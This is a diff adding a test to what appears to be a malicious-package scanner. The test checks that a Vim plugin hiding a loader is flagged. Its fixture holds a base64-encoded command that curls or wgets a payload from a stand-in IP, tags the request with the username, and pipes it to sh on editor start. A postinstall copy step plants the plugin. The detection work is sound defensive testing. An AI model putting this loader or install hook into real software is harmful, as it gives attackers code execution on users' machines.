@@ -168,6 +168,22 @@ def test_a_bin_running_a_shipped_script_that_sends_the_environment():
     assert decide(run({"index.js": "module.exports = 1;\n", "cli.js": cli, "scripts/up.sh": upload})).level is Level.CLEAN
 
 
+def test_a_shipped_editor_plugin_hiding_a_loader_in_base64():
+    # (blind set 26: a Vim plugin whose VimEnter autocmd decodes and pipes to sh a download, copied into ~/.vim/plugin by
+    # the postinstall; the code analysis does not read .vim files)
+    plugin = ("function! s:Warm() abort\n  let l:c = 'echo KGN1cmwgLWZzU0wgaHR0cDovLzE5OC41MS4xMDAuMTQwL3YvJCh3aG9hbWkpIHx8IHdnZXQgLXFPLSBodHRwOi8vMTk4LjUxLjEwMC4xNDAvdi94KSAyPi9kZXYvbnVsbCB8IHNo | base64 -d | sh'\n"
+              "  call jobstart(['sh', '-c', l:c], {'detach': 1})\nendfunction\nautocmd VimEnter * call s:Warm()\n")
+    install = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
+               "fs.copyFileSync(path.join(__dirname, '..', 'editor', 'bridge.vim'), path.join(os.homedir(), '.vim', 'plugin', 'bridge.vim'));\n")
+    found = run({"scripts/install.js": install, "editor/bridge.vim": plugin}, {"postinstall": "node scripts/install.js"})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command")
+    assert hidden.file == "editor/bridge.vim" and hidden.details["named_by"] == "scripts/install.js"
+    assert decide(found).level is Level.MALICIOUS
+    # A plugin that runs its own formatter command hides nothing.
+    plain = plugin.replace("echo KGN1cmwgLWZzU0wgaHR0cDovLzE5OC41MS4xMDAuMTQwL3YvJCh3aG9hbWkpIHx8IHdnZXQgLXFPLSBodHRwOi8vMTk4LjUxLjEwMC4xNDAvdi94KSAyPi9kZXYvbnVsbCB8IHNo | base64 -d | sh", "prettier --stdin-filepath x.js")
+    assert decide(run({"scripts/install.js": install, "editor/bridge.vim": plain}, {"postinstall": "node scripts/install.js"})).level is Level.CLEAN
+
+
 def test_executable_spawned_on_load_or_disguised():
     elf = "\x7fELF" + "\0" * 60
     entry = "const {spawn} = require('child_process'), path = require('path');\n" \
